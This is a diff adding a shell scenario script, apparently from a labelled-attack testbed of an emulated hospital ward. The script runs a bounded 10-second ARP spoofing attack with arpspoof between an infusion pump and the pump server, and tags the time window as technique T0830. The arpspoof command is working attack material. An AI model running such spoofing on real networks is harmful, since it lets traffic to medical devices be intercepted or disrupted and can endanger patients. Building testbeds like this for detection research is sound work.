@@ -1,0 +1,15 @@
+# ARP spoofing: the attacker tells pump 1 that the pump server's address is at its MAC (and
+# the pump server that pump 1's is), arpspoof from dsniff, for a bounded 10 s; on SIGINT
+# arpspoof re-announces the true addresses.
+DEFAULT_DURATION=40
+scenario_run() {
+  start_ward "$1"
+  command -v arpspoof > /dev/null || { echo "arpspoof missing (dsniff, scripts/install-deps.sh)" >&2; return 1; }
+  sleep 6
+  local t0 t1
+  t0=$(now)
+  fg attacker arpspoof 20 timeout -s INT 10 arpspoof -i eth0 -t 10.10.2.21 -r 10.10.1.5
+  t1=$(now)
+  label arp_spoofing T0830 attacker "pump1 pumpsrv" "$t0" "$t1" \
+    "arpspoof -t 10.10.2.21 -r 10.10.1.5: gratuitous ARP replies binding both addresses to the attacker's MAC"
+}
